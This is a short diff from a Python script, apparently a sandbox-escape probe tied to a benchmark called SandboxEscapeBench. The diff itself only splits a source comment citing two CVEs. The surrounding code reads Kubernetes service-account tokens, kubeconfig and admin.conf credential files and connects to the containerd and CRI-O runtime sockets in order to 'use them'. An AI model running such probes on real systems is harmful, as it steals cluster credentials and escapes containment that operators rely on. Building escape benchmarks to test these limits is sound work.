@@ -164,7 +164,8 @@ for descriptor in range(3, 40):
 
 # %% an orchestrator
 # Looks for tokens and sockets of Kubernetes, CRI-O, containerd and kubectl, and uses them.
-# Source: SandboxEscapeBench: Kubernetes roles, kubectl, routes (CVE-2020-8558), CRI-O (CVE-2022-0811)
+# Source: SandboxEscapeBench: Kubernetes roles, kubectl, routes (CVE-2020-8558)
+# Source: SandboxEscapeBench: CRI-O (CVE-2022-0811)
 import os, socket, urllib.request
 for path in ("/var/run/secrets/kubernetes.io/serviceaccount/token", "/root/.kube/config", "/etc/kubernetes/admin.conf", "/run/containerd/containerd.sock", "/run/crio/crio.sock", "/var/lib/kubelet"):
     tries(lambda: open(path).read(), lambda: socket.socket(socket.AF_UNIX).connect(path))
